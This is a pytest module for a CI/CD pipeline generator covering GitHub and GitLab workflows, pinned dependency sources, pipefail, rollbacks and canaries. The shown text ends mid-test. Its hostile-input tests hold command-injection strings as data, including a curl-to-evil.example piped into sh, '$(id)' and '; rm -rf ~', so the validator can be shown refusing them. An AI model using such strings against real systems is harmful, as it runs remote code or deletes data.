"""Pipelines that gate (issue 17, item 5) and every CI system end to end (issue 16, item 7).

One regression test per defect, each failing on the pipeline generator before this change: a
GitLab-only project crashed the notebook and got `gh` commands; the cost gate installed PyPI's
unrelated `opslib`; `| tee` hid the gate's exit code; production needed only the build; the
rollback ran only after a failed smoke test; canaries were left to a human; `glab ci retry` got
a pipeline id; Lambda versions were published without the description the runbook looks up; a
plan's image check ran against ECR without a login and its Heroku rollback used a variable
nothing set. Checked on the examples and on variants of them (CI systems, environments,
strategies, opslib sources).
"""

import json
import re
import shlex
import subprocess

import pytest
from conftest import EXAMPLES, FIXTURES, PARAMS, REPO, execute_notebook, file_variant
from ruamel.yaml import YAML

from opslib.documents import deployment_plan as dp
from opslib.documents import pipeline
from opslib.documents.ci_files import PIPEFAIL, load
from opslib.errors import InputError
from opslib.notebook import pipeline as pipelineview
from opslib.params.models import ProjectParams, load_params
from opslib.params.status import check_status

SYSTEM_SETS = {"github": ["github"], "gitlab": ["gitlab"], "both": ["github", "gitlab"]}
STORES = {"github": "github-actions", "gitlab": "gitlab-ci"}
# what names a CI system in a document (a repository URL on github.com is not a mention)
MENTIONS = {
    "github": re.compile(r"GitHub|\bgh (?:run|workflow|pr|api|secret)\b|\.github/workflows|GITHUB_|github\.(?:ref|sha|run_id)|workflow_dispatch"),
    "gitlab": re.compile(r"GitLab|\bglab\b|\.gitlab-ci\.yml|\$\{?CI_[A-Z_]+"),
}
VERSIONS = {"weather-api": "1.4.0", "shop-platform": "2.4.0", "agent-orchestrator": "0.9.0", "sms-notifier": "2.1.0", "merchant-digest": "1.2.0"}
SHA = "3f9c2a7e41b08d5c6e2f1a9b7d4c0e8f5a2b6c1d"
PINNED_PIP = f"opslib @ git+https://github.com/acme/opslib@{SHA}"
PINNED_IMAGE = "ghcr.io/acme/opslib@sha256:" + "6a1f0c3e" * 8


def variant(name: str, systems: list[str] | None = None, envs: list[str] | None = None, **ci) -> ProjectParams:
    """An example with another ci: section (CI-system secrets moved to the system in use) and,
    optionally, only some of its environments."""
    base = load_params(PARAMS / f"{name}.yaml")
    data = base.model_dump(mode="json", exclude_none=True)
    data.setdefault("ci", {}).update(ci)
    if systems:
        data["ci"]["systems"] = systems
        for item in (data.get("secrets") or {}).get("items", []):
            if item["store"] in STORES.values() and item["store"] not in [STORES[s] for s in systems]:
                item["store"] = STORES[systems[0]]
                item["description"] = item["description"].replace("GitHub Actions", "CI").replace("GitLab CI", "CI")
    if envs:  # the cost model and the actuals name every environment: leave them out
        data["environments"] = [e for e in data["environments"] if e["name"] in envs]
        data.pop("cost", None)
        data.pop("actuals", None)
        for dep in data.get("dependencies", []):  # usage prices need the cost model's drivers: keep the monthly fee only
            pricing = dep.get("pricing") or {}
            if "usage" in pricing or "components" in pricing:
                dep["pricing"] = {k: v for k, v in pricing.items() if k not in ("usage", "components")} | {"monthly_usd": pricing.get("monthly_usd", 0), "plan": pricing.get("plan", "usage billed per call (not modelled without a cost: section)")}
    moved = ProjectParams.model_validate(data, context={"base_dir": base.base_dir})
    moved._path = base.path
    return moved


def both(name: str) -> ProjectParams:
    """An example with both CI systems (the tests of the CI files read both; an example may use one)."""
    return variant(name, systems=SYSTEM_SETS["both"])


def plan_text(params: ProjectParams, name: str, strategy: str | None = None) -> str:
    plan = dp.prepare(params, "prod", VERSIONS[name], history=FIXTURES / "deploy" / "history" / f"{name}.yaml",
                      strategy=strategy, force=True)
    return dp.render_plan(plan)


def jobs(p, path):
    return load(p.files[path])


# ---------------------------------------------------------------- CI systems (issue 16 item 7)


@pytest.mark.parametrize("name", EXAMPLES)
@pytest.mark.parametrize("which", list(SYSTEM_SETS))
def test_each_ci_system_end_to_end(name, which, tmp_path):
    systems = SYSTEM_SETS[which]
    params = variant(name, systems=systems)
    p = pipeline.build(params)
    expected = {"github": {".github/workflows/ci.yml", ".github/workflows/deploy.yml"}, "gitlab": {".gitlab-ci.yml"}}
    assert {f for f in p.files if not f.startswith("canary/")} == set().union(*(expected[s] for s in systems))
    assert all(v.ok for v in p.validations), [v.errors for v in p.validations]
    md = pipeline.render_pipeline(p)
    plan = plan_text(params, name)
    unused = [s for s in SYSTEM_SETS["both"] if s not in systems]
    for text, what in [(md, "pipeline.md"), (plan, "deployment plan"), *((body, path) for path, body in p.files.items())]:
        for s in unused:
            found = MENTIONS[s].findall(text)
            assert not found, f"{what} of a {which}-only project mentions {s}: {found[:3]}"
    for s in systems:
        assert MENTIONS[s].search(md) and MENTIONS[s].search(plan), s
    # the notebook shows the deploy file of each system in use (it showed .github/…/deploy.yml always)
    assert pipelineview.deploy_files(p) == [f for f in (".github/workflows/deploy.yml", ".gitlab-ci.yml") if f in p.files]
    pipelineview.show_files(p)
    # and what is written checks again
    written = pipeline.write(params, check_status(params), tmp_path)
    assert all(f.status == "pass" for f in written.findings)
    assert all(f.status == "pass" for f in pipeline.check_written(tmp_path, params))


def test_notebook_shows_the_projects_own_files():
    nb = json.loads((REPO / "notebooks" / "40-cicd-pipeline.ipynb").read_text())
    code = "\n".join("".join(c["source"]) for c in nb["cells"] if c["cell_type"] == "code")
    assert ".github/workflows/deploy.yml" not in code and "s.show(view.files)" in code  # view.files shows deploy_files(): the systems in use


def test_a_secret_in_a_ci_system_the_project_does_not_use_is_refused(tmp_path):
    def edit(d):
        d["ci"]["systems"] = ["gitlab"]
    path = file_variant(tmp_path, "weather-api", edit)
    with pytest.raises(InputError, match=r"secrets\.items\[\d+\]\.store: github-actions, but ci\.systems is gitlab"):
        load_params(path)


@pytest.mark.kernel
def test_gitlab_only_project_through_the_notebook(tmp_path):

    def edit(d):
        d["ci"]["systems"] = ["gitlab"]
        for item in d["secrets"]["items"]:
            if item["store"] == "github-actions":
                item["store"] = "gitlab-ci"
                item["description"] = item["description"].replace("GitHub Actions", "GitLab CI")
    path = file_variant(tmp_path, "weather-api", edit)
    out = tmp_path / "40.ipynb"
    execute_notebook(str(REPO / "notebooks" / "40-cicd-pipeline.ipynb"), str(out),
                        parameters={"params_path": path, "out_dir": str(tmp_path / "build"), "interactive": False},
                        kernel_name="python3", progress_bar=False, cwd=str(REPO / "notebooks"))
    nb = json.loads(out.read_text())
    outputs = [o for c in nb["cells"] if c["cell_type"] == "code" for o in c.get("outputs", [])]
    assert not [o for o in outputs if o["output_type"] == "error"]
    assert (tmp_path / "build" / "ci" / ".gitlab-ci.yml").is_file() and not (tmp_path / "build" / "ci" / ".github").exists()
    assert not MENTIONS["github"].search((tmp_path / "build" / "pipeline.md").read_text())


# ---------------------------------------------------------------- the cost gate's opslib


@pytest.mark.parametrize("name", EXAMPLES)
def test_cost_gate_installs_opslib_pinned_and_runs_the_cli(name):
    p = pipeline.build(both(name))
    texts = [pipeline.render_pipeline(p), *p.files.values()]
    for text in texts:
        assert not re.search(r"pip install [\"']?opslib(?![ @\w-])", text), "a bare `opslib` from PyPI is an unrelated package"
        assert "python -m opslib.costgate" not in text
    gh = jobs(p, ".github/workflows/ci.yml")["jobs"]["cost-check"]
    gl = jobs(p, ".gitlab-ci.yml")["cost-check"]
    runs = [s["run"] for s in gh["steps"] if "run" in s] + gl["script"]
    assert any(r.startswith("opslib cost-gate ") for r in runs)
    if p.opslib_kind == "pip":
        assert any(re.fullmatch(r"pip install 'opslib @ git\+https://\S+@[0-9a-f]{40}'", r) for r in runs), runs
    else:
        assert re.search(r"@sha256:[0-9a-f]{64}$", gh["container"]["image"]) and gl["image"]["name"] == gh["container"]["image"]


@pytest.mark.parametrize("source", [PINNED_PIP, PINNED_IMAGE, f"opslib @ git+ssh://git@gitlab.example.com/platform/opslib@{SHA}"])
def test_pinned_sources_are_accepted(source):
    p = pipeline.build(variant("weather-api", opslib_source=source))
    assert p.cost_check == "opslib cost-gate parameters/weather-api.yaml" and all(v.ok for v in p.validations)


@pytest.mark.parametrize("source", [
    "opslib",                                                       # PyPI's unrelated package
    "opslib==0.1.0",                                                # a version on an index we do not control
    "opslib @ git+https://github.com/acme/opslib@main",             # a branch moves
    "opslib @ git+https://github.com/acme/opslib@v0.1.0",           # so can a tag
    "opslib @ git+https://github.com/acme/opslib@3f9c2a7",          # a short SHA is ambiguous
    "ghcr.io/acme/opslib:0.1.0",                                    # an image tag moves
    "opslib @ git+https://github.com/acme/opslib@3f9c2a7e41b08d5c6e2f1a9b7d4c0e8f5a2b6c1d; rm -rf ~",
])
def test_unpinned_sources_are_refused_with_the_field_path(source, tmp_path):
    path = file_variant(tmp_path, "weather-api", lambda d: d["ci"].__setitem__("opslib_source", source))
    with pytest.raises(InputError, match=r"ci\.opslib_source: not pinned to an immutable source"):
        load_params(path)


@pytest.mark.parametrize("userinfo, message", [
    ("deploybot:Tr0ub4dor-and-3@", "ci.opslib_source: "),                    # the parameters' secret scan refuses it first
    ("x-access-token@", "ci.opslib_source: the URL carries credentials"),  # a token as the user name
])
def test_credentials_in_the_source_are_refused_and_never_echoed(userinfo, message, tmp_path):
    path = file_variant(tmp_path, "weather-api",
                        lambda d: d["ci"].__setitem__("opslib_source", f"opslib @ git+https://{userinfo}github.com/acme/opslib@{SHA}"))
    with pytest.raises(InputError) as err:
        load_params(path)
    assert message in str(err.value) and userinfo.rstrip("@") not in str(err.value)


def test_the_legacy_key_is_held_to_the_same_rule(tmp_path):
    def edit(d):
        del d["ci"]["opslib_source"]
        d["ci"]["opslib_requirement"] = "opslib"  # the old default
    with pytest.raises(InputError, match=r"ci\.opslib_requirement: not pinned"):
        load_params(file_variant(tmp_path, "weather-api", edit))


def test_without_a_source_there_is_no_cost_stage_and_the_document_says_why():
    params = variant("weather-api")
    data = params.model_dump(mode="json", exclude_none=True)
    del data["ci"]["opslib_source"]
    bare = ProjectParams.model_validate(data, context={"base_dir": params.base_dir})
    p = pipeline.build(bare)
    assert p.cost_check is None and "cost-check" not in jobs(p, ".gitlab-ci.yml") and "cost-check" not in jobs(p, ".github/workflows/ci.yml")["jobs"]
    md = pipeline.render_pipeline(p)
    assert "Not run: the gate needs opslib from a source you control, pinned. Set `ci.opslib_source`" in md


# ---------------------------------------------------------------- pipefail


def _pipes(line: str) -> bool:
    return bool(re.search(r"(?<![|>])\|(?![|&])", line))


@pytest.mark.parametrize("name", EXAMPLES)
def test_every_deciding_pipe_runs_with_pipefail(name):
    p = pipeline.build(both(name))
    for path in (".github/workflows/ci.yml", ".github/workflows/deploy.yml"):
        wf = jobs(p, path)
        assert wf["defaults"]["run"]["shell"] == "bash", "GitHub's default `bash -e {0}` has no pipefail; `shell: bash` has"
        for job_name, job in wf["jobs"].items():
            shell = job.get("defaults", {}).get("run", {}).get("shell", "bash")
            piped = [s["run"] for s in job.get("steps", []) if "run" in s and _pipes(s["run"])]
            assert shell == "bash" or not piped, (path, job_name, piped)
    gl = jobs(p, ".gitlab-ci.yml")
    for job_name, job in gl.items():
        if not isinstance(job, dict) or "script" not in job:
            continue
        lines = list(job.get("before_script", gl["default"]["before_script"])) + list(job["script"])
        first_pipe = next((i for i, line in enumerate(lines) if _pipes(line)), None)
        if first_pipe is not None:
            assert PIPEFAIL in lines[:first_pipe], (job_name, lines[first_pipe])


def test_a_failing_cost_gate_fails_its_gitlab_job(tmp_path):
    """Run the cost-check job's shell lines with an `opslib` that reports over budget."""
    p = pipeline.build(load_params(PARAMS / "shop-platform.yaml"))
    gl = jobs(p, ".gitlab-ci.yml")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool, body in (("opslib", 'echo "| prod | FAIL: over budget |"; exit 1'), ("pip", "exit 0"), ("apt-get", "exit 0")):
        (bin_dir / tool).write_text(f"#!/bin/sh\n{body}\n")
        (bin_dir / tool).chmod(0o755)
    lines = gl["default"]["before_script"] + gl["cost-check"]["script"]
    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "CI_COMMIT_SHA": "0" * 40}

    def run(script_lines):
        return subprocess.run(["bash", "-e", "-c", "\n".join(script_lines)], cwd=tmp_path, env=env, capture_output=True, text=True)

    assert run(lines).returncode != 0 and "FAIL: over budget" in (tmp_path / "cost-report.md").read_text()
    assert run([line for line in lines if line != PIPEFAIL]).returncode == 0, "without pipefail the gate could never fail"


# ---------------------------------------------------------------- promotion order


@pytest.mark.parametrize("name, envs", [
    ("shop-platform", None), ("weather-api", None), ("agent-orchestrator", None),
    ("weather-api", ["staging", "prod"]), ("shop-platform", ["prod"]),
])
def test_production_needs_the_environment_before_it(name, envs):
    p = pipeline.build(variant(name, envs=envs))
    names = [e.name for e in p.environments]
    gh = jobs(p, ".github/workflows/deploy.yml")["jobs"]
    gl = jobs(p, ".gitlab-ci.yml")
    tag_rule = {"if": "$CI_COMMIT_TAG =~ /^v.+\\..+\\..+$/"}
    for before, env in zip([None, *names], names, strict=False):
        need = f"deploy-{before}" if before else "build"
        assert gh[f"deploy-{env}"]["needs"] == [need]
        assert {"job": need, "artifacts": False} in gl[f"deploy-{env}"]["needs"] or (need == "build" and gl[f"deploy-{env}"]["needs"][0]["job"] == "build")
        # the environment before production runs in tag pipelines too, or production could never start
        assert "startsWith(github.ref, 'refs/tags/')" in gh[f"deploy-{env}"]["if"]
        assert any(r["if"] == tag_rule["if"] for r in gl[f"deploy-{env}"]["rules"])
    prod = names[-1]
    assert gh[f"deploy-{prod}"]["if"] == "startsWith(github.ref, 'refs/tags/')"
    assert [r["if"] for r in gl[f"deploy-{prod}"]["rules"]] == [tag_rule["if"]]


# ---------------------------------------------------------------- rollback on any failure


def _strategies() -> list[tuple[str, str]]:
    """(example, strategy) for every strategy the example's platform has."""
    out = []
    for name in EXAMPLES:
        params = load_params(PARAMS / f"{name}.yaml")
        out += [(name, s) for s in sorted(params.catalog.platform(params.platform).deploy)]
    return out


@pytest.mark.parametrize(("name", "strategy"), _strategies())
def test_rollback_on_any_failure_after_the_deploy_started(name, strategy):
    params = both(name)
    p = pipeline.build(params, strategy=strategy)
    gh = jobs(p, ".github/workflows/deploy.yml")["jobs"]
    gl = jobs(p, ".gitlab-ci.yml")
    for env in p.environments:
        steps = gh[f"deploy-{env.name}"]["steps"]
        ids = [s.get("id", "") for s in steps]
        started = ids.index("started")
        first_deploy = next(i for i, x in enumerate(ids) if x.startswith("deploy"))
        assert started < first_deploy and all(not s["name"].startswith("Record") for s in steps[started:])
        rollback = [s for s in steps if s["name"].startswith("Roll back")]
        assert rollback and all(s["if"] == "(failure() || cancelled()) && steps.started.outcome == 'success'" for s in rollback)
        script = [line.rstrip("\n") for line in gl[f"deploy-{env.name}"]["script"]]
        mark = next(i for i, line in enumerate(script) if line.endswith("> .deploy/started"))
        assert all(script.index(s.command) > mark for s in env.deploy) and all(script.index(s.command) < mark for s in env.record)
        rb = gl[f"rollback-{env.name}"]
        assert rb["script"][0].startswith("if [ ! -f .deploy/started ]") and "smoke-failed" not in "\n".join(rb["script"])
        assert all(r["when"] == "on_failure" for r in rb["rules"]) and rb["needs"] == [{"job": f"deploy-{env.name}", "artifacts": True}]
        assert gl[f"deploy-{env.name}"]["artifacts"] == {"when": "always", "paths": [".deploy/"], "expire_in": "7 days"}
        # the rollback goes back to what was recorded, so it never undoes more than the deploy did
        recorded = set(re.findall(r"\.deploy/[\w.-]+", "\n".join(s.command for s in env.record)))
        read = set(re.findall(r"\.deploy/[\w.-]+", "\n".join(s.command for s in env.rollback)))
        assert read <= recorded | {".deploy/started"}, read - recorded


# ---------------------------------------------------------------- automated canaries


def _docs(text: str) -> list:
    return [d for d in YAML(typ="safe", pure=True).load_all(text) if d]


def test_kubernetes_canary_runs_argo_rollouts_steps_with_a_metric_gate_and_a_hold():
    params = load_params(PARAMS / "shop-platform.yaml")
    p = pipeline.build(params)
    prod = p.environments[-1]
    assert prod.canary and prod.canary.tool == "Argo Rollouts" and prod.canary.minutes == 45
    docs = _docs(p.files["canary/prod.yaml"])
    rollouts = {d["metadata"]["name"]: d for d in docs if d["kind"] == "Rollout"}
    assert set(rollouts) == {s.name for s in params.services if s.kind != "job"}  # a CronJob has no Rollout: it runs no canary
    weights = [w for w in params.deploy.canary_steps if w < 100]
    for name, r in rollouts.items():
        steps = r["spec"]["strategy"]["canary"]["steps"]
        assert steps == [x for w in weights for x in ({"setWeight": w}, {"pause": {"duration": f"{params.deploy.observe_minutes}m"}})]
        assert r["spec"]["workloadRef"] == {"apiVersion": "apps/v1", "kind": "Deployment", "name": name, "scaleDown": "progressively"}
    gates = {d["metadata"]["name"]: d for d in docs if d["kind"] == "AnalysisTemplate"}
    conditions = [m["successCondition"] for m in gates["web-canary-gate"]["spec"]["metrics"]]
    assert conditions == ["len(result) == 0 || isNaN(result[0]) || result[0] <= 0.05", "len(result) == 0 || isNaN(result[0]) || result[0] <= 0.8"]
    deploy = jobs(p, ".github/workflows/deploy.yml")["jobs"]["deploy-prod"]
    runs = "\n".join(s["run"] for s in deploy["steps"] if "run" in s)
    assert "get rollout/" in runs and "Degraded" in runs and "read -r" not in runs
    assert deploy["timeout-minutes"] >= prod.canary.minutes + params.deploy.observe_minutes
    assert jobs(p, ".gitlab-ci.yml")["deploy-prod"]["timeout"] == f"{deploy['timeout-minutes']} minutes"
    # the canary runs in production only; staging gets the plain rolling deploy
    assert "rollout status deployment/" in "\n".join(s["run"] for s in jobs(p, ".github/workflows/deploy.yml")["jobs"]["deploy-staging"]["steps"] if "run" in s)
    md = pipeline.render_pipeline(p)
    assert "The canary takes 45 minutes (3 steps × 15 min" in md and "| 2 | 25% | 15 min |" in md


def test_lambda_canary_shifts_alias_weights_with_a_hold_and_an_error_gate():
    params = load_params(PARAMS / "agent-orchestrator.yaml")
    p = pipeline.build(params)
    runs = "\n".join(s["run"] for s in jobs(p, ".github/workflows/deploy.yml")["jobs"]["deploy-prod"]["steps"] if "run" in s)
    assert "for PCT in 10 50; do" in runs and "sleep 900" in runs and "AdditionalVersionWeights" in runs
    assert "--metric-name Errors" in runs and "--metric-name Invocations" in runs and "ExecutedVersion" in runs
    assert "The canary takes 30 minutes (2 steps × 15 min" in pipeline.render_pipeline(p)


def test_heroku_says_it_has_no_traffic_split():
    p = pipeline.build(load_params(PARAMS / "weather-api.yaml"), strategy="canary")
    assert p.environments[-1].canary is None
    assert "no automated canary: Heroku's router sends every request to the app's current release" in pipeline.render_pipeline(p)


@pytest.mark.parametrize("name", EXAMPLES)
def test_no_ci_job_waits_for_a_human_at_a_canary_step(name):
    params = load_params(PARAMS / f"{name}.yaml")
    for strategy in params.catalog.platform(params.platform).deploy:
        p = pipeline.build(params, strategy=strategy)
        assert not any("read -r" in text for text in p.files.values()), strategy


# ---------------------------------------------------------------- gh and glab as their manuals say

# From the manuals: gh run rerun / run list / workflow run / pr list / api (cli.github.com, `gh help`),
# glab ci retry / ci run / api / mr approvers (docs.gitlab.com/cli). `glab ci retry` takes a job id or
# name ("Retry job with ID 224356863"), never a pipeline id.
MANUAL = {
    ("gh", "run", "rerun"): (1, {"--failed", "-j", "--job", "-d", "--debug", "-R", "--repo"}),
    ("gh", "run", "list"): (0, {"-w", "--workflow", "-s", "--status", "-L", "--limit", "--json", "-q", "--jq", "-b", "--branch", "-R", "--repo"}),
    ("gh", "workflow", "run"): (1, {"-r", "--ref", "-f", "--raw-field", "-F", "--field", "-R", "--repo"}),
    ("gh", "pr", "list"): (0, {"-s", "--state", "-S", "--search", "--json", "-q", "--jq", "-B", "--base", "-L", "--limit", "-R", "--repo"}),
    ("glab", "ci", "retry"): (1, {"-b", "--branch", "-p", "--pipeline-id", "-R", "--repo"}),
    ("glab", "ci", "run"): (0, {"-b", "--branch", "--variables", "--variables-env", "--variables-file", "-f", "--variables-from", "-R", "--repo"}),
    ("glab", "mr", "approvers"): (1, {"-R", "--repo"}),
    ("glab", "api"): (1, {"-X", "--method", "-f", "--raw-field", "-F", "--field", "--paginate", "-H", "--header", "--hostname"}),
}


def _invocations(text: str, tool: str) -> list[list[str]]:
    """Every `gh …` / `glab …` command in a text, as words (shell substitutions kept whole)."""
    out = []
    for m in re.finditer(rf"(?<![\w./-]){tool} [a-z]", text):
        rest, depth, quote, end = text[m.start():], 0, "", None
        for i, ch in enumerate(rest):
            if quote:
                quote = "" if ch == quote and rest[i - 1] != "\\" else quote
            elif ch in "\"'":
                quote = ch
            elif rest.startswith("$(", i):
                depth += 1
            elif ch == ")" and depth:
                depth -= 1
            elif ch in ")|;`\n" and not depth:
                end = i
                break
        out.append(shlex.split(rest[:end]))
    return out


def _check(words: list[str]) -> str | None:
    key = next((k for k in MANUAL if tuple(words[:len(k)]) == k), None)
    if key is None:
        return f"{' '.join(words[:3])}: not a command these documents should use"
    max_args, flags = MANUAL[key]
    rest = words[len(key):]
    args, i = [], 0
    while i < len(rest):
        w = rest[i]
        if w.startswith("-"):
            if w.split("=")[0] not in flags:
                return f"{' '.join(key)}: unknown flag {w}"
            i += 1 if "=" in w or w in ("--failed", "--paginate", "-d", "--debug") else 2
            continue
        args.append(w)
        i += 1
    if len(args) > max_args:
        return f"{' '.join(key)}: too many arguments {args}"
    if key == ("glab", "ci", "retry") and args and ("pipeline" in args[0].lower() or "ci list" in args[0]):
        return "glab ci retry takes a job id or name, not a pipeline id"
    return None


@pytest.mark.parametrize("name", EXAMPLES)
def test_gh_and_glab_invocations_match_their_manuals(name):
    params = both(name)
    texts = [plan_text(params, name)]
    for strategy in params.catalog.platform(params.platform).deploy:
        p = pipeline.build(params, strategy=strategy)
        texts += [pipeline.render_pipeline(p), *p.files.values()]
    seen = set()
    for text in texts:
        for tool in ("gh", "glab"):
            for words in _invocations(text, tool):
                assert _check(words) is None, (_check(words), words)
                seen.add(tuple(words[:3]))
    assert {("gh", "run", "rerun"), ("glab", "api", "--method")} <= seen


@pytest.mark.parametrize("which", ["github", "gitlab"])
def test_secret_rotation_reruns_ci_as_the_manuals_say(which):
    """secrets.md re-runs the deploy after a CI secret changes; it gave glab a pipeline id."""
    from opslib.documents import secrets

    params = variant("weather-api", systems=[which])
    text = secrets.draft(params, check_status(params)).markdown
    tool = "gh" if which == "github" else "glab"
    calls = [w for w in _invocations(text, tool) if w[:3] in (["gh", "run", "rerun"], ["glab", "ci", "retry"])]
    assert calls and all(_check(w) is None for w in calls), calls


def test_the_manual_check_catches_the_old_retry():
    old = 'glab ci retry "$(glab ci list --per-page 1 -F json | jq -r \'.[0].id\')"'
    assert _check(_invocations(old, "glab")[0]) == "glab ci retry takes a job id or name, not a pipeline id"


# ---------------------------------------------------------------- values come from where CI sets them


def test_lambda_versions_carry_the_tag_the_runbook_looks_up():
    params = load_params(PARAMS / "agent-orchestrator.yaml")
    platform = params.catalog.platform(params.platform)
    assert any("Description=='${PREVIOUS_VERSION}'" in (s.command or "") for s in platform.rollback.steps)
    for strategy in platform.deploy:
        ci = "\n".join(pipeline.build(params, strategy=strategy).files.values())
        assert "--publish" not in ci
        published = re.findall(r"aws lambda publish-version [^\n]*", ci)
        assert published and all('--description "${VERSION}"' in line for line in published)


@pytest.mark.parametrize("name", EXAMPLES)
def test_no_release_is_hard_coded_and_every_rollback_value_is_set_first(name):
    params = both(name)
    p = pipeline.build(params)
    for text in [pipeline.render_pipeline(p), *p.files.values()]:
        assert not re.search(r"PREVIOUS_VERSION=v?\d", text) and "--ref v1.4.1" not in text
    plan = plan_text(params, name)
    history = dp.load_history(FIXTURES / "deploy" / "history" / f"{name}.yaml")
    previous = [d.version for d in history if d.env == "prod" and d.status == "success"][-1]
    assert re.findall(r"PREVIOUS_VERSION=(\S+)", plan) == [f"v{previous}"]
    # every variable a rollback step reads is set earlier in the plan (Heroku's ROLLBACK_RELEASE was not)
    head, rollback = plan.split("## Rollback Steps")
    rollback = rollback.split("## Escalation")[0]
    code = "\n".join(re.findall(r"```bash\n(.*?)```", rollback, re.S))
    used = set(re.findall(r"\$\{?([A-Z_][A-Z0-9_]*)", re.sub(r"(?m)^\s*#.*$", "", code)))
    assigned = set(re.findall(r"(?m)^\s*(?:export\s+)?([A-Z_][A-Z0-9_]*)=", head + code))
    assigned |= set(re.findall(r"\bfor ([A-Z_][A-Z0-9_]*) in\b", code))  # a loop sets its variable
    assert used <= assigned, used - assigned


def test_the_plan_reads_the_registry_with_credentials_it_has():
    """An image on ECR is checked with the AWS credentials (aws ecr describe-images); a `docker
    manifest inspect`, wherever one is left, comes after the registry login."""
    plan = plan_text(load_params(PARAMS / "shop-platform.yaml"), "shop-platform")
    assert "aws ecr describe-images" in plan
    if "docker manifest inspect" in plan:
        assert plan.index("docker login") < plan.index("docker manifest inspect")


# ---------------------------------------------------------------- hostile input


@pytest.mark.parametrize("field, value, path", [
    ("default_branch", 'main"; curl -s evil.example | sh; "', "ci.default_branch"),
    ("release_tag_pattern", "v*$(id)", "ci.release_tag_pattern"),
    ("notify_channel", '#deploys\\", \\"text\\": \\"pwned', "ci.notify_channel"),
    ("parameters_file", "parameters/x.yaml; rm -rf ~", "ci.parameters_file"),
    ("canary_metrics_url", "http://prometheus:9090/$(id)", "ci.canary_metrics_url"),
])
def test_values_that_reach_ci_commands_are_validated(field, value, path, tmp_path):
    with pytest.raises(InputError, match=re.escape(path) + ": "):
        load_params(file_variant(tmp_path, "weather-api", lambda d: d["ci"].__setitem__(field, value)))


def test_a_github_expression_in_a_url_is_refused(tmp_path):
    def edit(d):
        d["environments"][0]["url"] = "https://dev.example.com/${{ secrets.HEROKU_API_KEY }}"
    with pytest.raises(InputError, match=r"environments\[0\]\.url: must be an http\(s\) URL"):
        load_params(file_variant(tmp_path, "weather-api", edit))


def test_a_health_path_with_shell_syntax_stays_data(tmp_path):
    """Command substitution in a path is refused by the schema; what the schema allows (& ? = , in
    a query) reaches curl as one word, and the shell never runs any of it."""
    params = load_params(PARAMS / "weather-api.yaml")
    data = params.model_dump(mode="json", exclude_none=True)
    data["services"][0]["health"]["path"] = "/health$(touch pwned);touch pwned2"
    with pytest.raises(ValueError, match="health.path"):
        ProjectParams.model_validate(data, context={"base_dir": params.base_dir})
    data["services"][0]["health"]["path"] = "/health?a=1&touch=x,pwned&b=2"
    odd = ProjectParams.model_validate(data, context={"base_dir": params.base_dir})
    smoke = pipeline.build(odd).environments[0].smoke_command
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "curl").write_text('#!/bin/sh\nprintf \'%s\\n\' "$@" > .deploy/curl-args; printf \'{"status":"ok"}\' > .deploy/smoke-web.body; printf 200\n')
    (bin_dir / "curl").chmod(0o755)
    done = subprocess.run(["bash", "-e", "-c", smoke], cwd=tmp_path, env={"PATH": f"{bin_dir}:/usr/bin:/bin"}, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    assert any(a.endswith("/health?a=1&touch=x,pwned&b=2") for a in (tmp_path / ".deploy" / "curl-args").read_text().splitlines())
    assert not list(tmp_path.glob("*pwned*"))


# ---------------------------------------------------------------- generated projects

ENV_SETS = {"all": None, "two": ["staging", "prod"], "prod": ["prod"]}
SOURCES = {"pip": PINNED_PIP, "image": PINNED_IMAGE, "none": None}
# platform × CI systems × environments × opslib source, every strategy of the platform each:
# 81 projects; the suite builds every ninth (the full matrix: benchmarks/ci_matrix.py)
FULL_MATRIX = [(n, s, e, o) for n in EXAMPLES for s in SYSTEM_SETS for e in ENV_SETS for o in SOURCES]
MATRIX = FULL_MATRIX[::9]


def generated(name: str, which: str, envs: str, source: str) -> ProjectParams:
    params = variant(name, systems=SYSTEM_SETS[which], envs=ENV_SETS[envs])
    data = params.model_dump(mode="json", exclude_none=True)
    data["ci"].pop("opslib_source", None)
    if SOURCES[source]:
        data["ci"]["opslib_source"] = SOURCES[source]
    moved = ProjectParams.model_validate(data, context={"base_dir": params.base_dir})
    moved._path = params.path
    return moved


def gating_problems(p) -> list[str]:
    """What a pipeline that gates must hold, as a list of what does not."""
    out = [f"{v.path}: {v.errors[:2]}" for v in p.validations if not v.ok]
    md = pipeline.render_pipeline(p)
    out += [f"pipeline.md: {f.item}" for f in pipeline.check_pipeline_doc(md, environments=[e.name for e in p.environments], strict=True)
            if f.status != "pass"]
    for s in SYSTEM_SETS["both"]:
        if s not in p.systems:
            out += [f"{where} mentions {s}" for where, text in [("pipeline.md", md), *p.files.items()] if MENTIONS[s].search(text)]
    for text in [md, *p.files.values()]:
        if re.search(r"pip install [\"']?opslib(?![ @\w-])", text) or "read -r" in text:
            out.append("unpinned opslib or a human wait")
    names = [e.name for e in p.environments]
    if p.github:
        gh = jobs(p, ".github/workflows/deploy.yml")
        out += [f"GitHub {n} needs {gh['jobs'][f'deploy-{n}']['needs']}" for b, n in zip(["build", *[f"deploy-{x}" for x in names]], names, strict=False)
                if gh["jobs"][f"deploy-{n}"]["needs"] != [b]]
        out += ["GitHub shell without pipefail"] * (gh["defaults"]["run"]["shell"] != "bash")
        for n in names:
            rb = [s for s in gh["jobs"][f"deploy-{n}"]["steps"] if s["name"].startswith("Roll back")]
            out += [f"GitHub {n} rollback condition"] * any("steps.started.outcome == 'success'" not in s["if"] for s in rb)
        out += ["GitHub cost-check without opslib_source"] * (("cost-check" in jobs(p, ".github/workflows/ci.yml")["jobs"]) != bool(p.opslib_source and p.budgets))
    if p.gitlab:
        gl = jobs(p, ".gitlab-ci.yml")
        out += ["GitLab without pipefail"] * (gl["default"]["before_script"][0] != PIPEFAIL)
        for b, n in zip([None, *names], names, strict=False):
            if b and {"job": f"deploy-{b}", "artifacts": False} not in gl[f"deploy-{n}"]["needs"]:
                out.append(f"GitLab {n} does not need deploy-{b}")
            if not gl[f"rollback-{n}"]["script"][0].startswith("if [ ! -f .deploy/started ]"):
                out.append(f"GitLab rollback-{n} does not check the start mark")
    prod = p.environments[-1]
    if p.strategy == "canary" and prod.canary:
        out += [f"canary of {prod.canary.minutes} min in a {prod.timeout_minutes}-min job"] * (prod.timeout_minutes < prod.canary.minutes)
    return out


@pytest.mark.parametrize("name, which, envs, source", MATRIX)
def test_generated_projects_gate(name, which, envs, source):
